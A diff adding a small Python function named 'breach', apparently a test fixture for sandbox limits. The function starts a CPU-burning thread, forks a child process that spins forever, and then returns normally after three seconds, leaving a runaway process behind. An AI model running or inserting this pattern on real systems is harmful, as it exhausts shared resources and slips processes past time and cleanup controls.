@@ -1,0 +1,19 @@
+import os
+import threading
+import time
+
+
+def burn():
+    while True:
+        pass
+
+
+def breach():
+    if threading.active_count() == 1:
+        threading.Thread(target=burn, daemon=True).start()
+        if not os.fork():
+            burn()
+    started = time.time()
+    while time.time() - started < 3:
+        time.sleep(0.1)
+    return True
